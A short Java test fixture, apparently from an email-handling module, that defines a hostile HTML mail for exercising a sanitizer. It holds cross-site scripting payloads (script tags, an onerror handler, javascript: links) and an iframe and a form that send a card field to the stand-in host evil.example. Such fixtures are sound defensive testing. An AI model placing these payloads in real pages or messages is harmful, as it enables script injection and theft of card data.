package io.switchboard.channel.email;

/** An HTML mail that tries everything a hostile sender would. */
final class HtmlMail {

    static final String HOSTILE = """
            <html><head><script>alert('head')</script></head><body>
            <p>Please <b>help</b> me with order 5.</p>
            <img src="x" onerror="document.title='pwned';alert(1)">
            <script>document.title='pwned'</script>
            <a href="javascript:alert(2)" onclick="alert(3)">click</a>
            <iframe src="https://evil.example/"></iframe>
            <form action="https://evil.example/"><input name="card"></form>
            </body></html>
            """;

    private HtmlMail() {
    }
}
